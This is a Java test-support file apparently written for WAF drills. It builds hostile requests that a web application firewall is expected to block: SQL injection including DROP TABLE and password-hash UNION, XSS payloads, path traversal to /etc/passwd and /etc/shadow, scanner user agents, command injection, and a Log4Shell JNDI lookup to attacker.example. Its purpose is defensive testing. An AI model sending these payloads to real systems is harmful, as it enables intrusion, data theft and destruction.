package io.stride.drills;

import io.stride.platform.test.HttpJson;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/**
 * The requests every WAF in front of Stride must refuse with 403: SQL injection, XSS, path
 * traversal, scanners, command injection, a JNDI lookup. The WAF drill sends them with a real token
 * through the whole stack; WafRulesTests sends them to the rules alone.
 */
final class Attacks {

  /** One hostile request. */
  record Attack(String name, HttpRequest request) {}

  private Attacks() {}

  static List<Attack> against(String base, String token) {
    Builder b = new Builder(base, token);
    return List.of(
        // SQL injection
        b.get("SQLi in a query parameter", "/api/v1/workouts?sport=" + enc("run' OR '1'='1")),
        b.get(
            "SQLi UNION in a path segment",
            "/api/v1/profiles/1%20UNION%20SELECT%20password_hash%20FROM%20auth.account--"),
        b.json(
            "SQLi in a JSON field",
            "POST",
            "/api/v1/workouts",
            Map.of(
                "sport", "run",
                "startTime", "2026-11-28T07:30:00Z",
                "durationSeconds", 60,
                "title", "x'; DROP TABLE workout.workout; --")),
        b.form(
            "SQLi in the login form",
            "/login",
            "username=" + enc("admin' OR 1=1--") + "&password=x&_csrf=x"),
        b.get(
            "blind SQLi (sleep) in a parameter",
            "/api/v1/workouts?limit=" + enc("10 AND SLEEP(5)")),
        // cross-site scripting
        b.get(
            "XSS in a query parameter",
            "/api/v1/workouts?sport=" + enc("<script>alert(document.cookie)</script>")),
        b.json(
            "XSS in a JSON field",
            "PATCH",
            "/api/v1/profiles/me",
            Map.of("displayName", "<img src=x onerror=alert(document.domain)>")),
        b.form(
            "XSS in the registration form",
            "/register",
            "displayName=" + enc("<svg/onload=alert(1)>") + "&email=x%40example.com&_csrf=x"),
        b.json(
            "javascript: URL in a JSON field",
            "PATCH",
            "/api/v1/profiles/me",
            Map.of("avatarUrl", "javascript:alert(String.fromCharCode(88,83,83))")),
        // path traversal and local files
        b.get(
            "path traversal, encoded, in the path",
            "/api/v1/workouts/..%2f..%2f..%2f..%2fetc%2fpasswd"),
        b.get("path traversal in a parameter", "/api/docs?file=" + enc("../../../../etc/passwd")),
        b.get(
            "path traversal, double-encoded",
            "/api/v1/workouts/imports/%252e%252e%252f%252e%252e%252fetc%252fshadow"),
        // scanners
        b.withHeader(
            "scanner: sqlmap",
            "/api/v1/workouts",
            "User-Agent",
            "sqlmap/1.8.4#stable (https://sqlmap.org)"),
        b.withHeader(
            "scanner: Nikto",
            "/",
            "User-Agent",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
        b.withHeader(
            "scanner: Nuclei",
            "/.env",
            "User-Agent",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        // other injection
        b.get(
            "command injection in a parameter",
            "/api/v1/workouts?sport=" + enc("run;cat /etc/passwd")),
        b.withHeader(
            "Log4Shell JNDI lookup in a header",
            "/api/v1/profiles/me",
            "X-Api-Version",
            "${jndi:ldap://attacker.example/a}"));
  }

  private static String enc(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private record Builder(String base, String token) {

    HttpRequest.Builder to(String path) {
      HttpRequest.Builder request =
          HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30));
      return token == null ? request : request.header("Authorization", "Bearer " + token);
    }

    Attack get(String name, String path) {
      return new Attack(name, to(path).GET().build());
    }

    Attack withHeader(String name, String path, String header, String value) {
      return new Attack(name, to(path).header(header, value).GET().build());
    }

    Attack json(String name, String method, String path, Map<String, Object> body) {
      return new Attack(
          name,
          to(path)
              .header("Content-Type", "application/json")
              .method(method, HttpRequest.BodyPublishers.ofString(HttpJson.toJson(body)))
              .build());
    }

    Attack form(String name, String path, String body) {
      return new Attack(
          name,
          HttpRequest.newBuilder(URI.create(base + path))
              .timeout(Duration.ofSeconds(30))
              .header("Content-Type", "application/x-www-form-urlencoded")
              .POST(HttpRequest.BodyPublishers.ofString(body))
              .build());
    }
  }
}
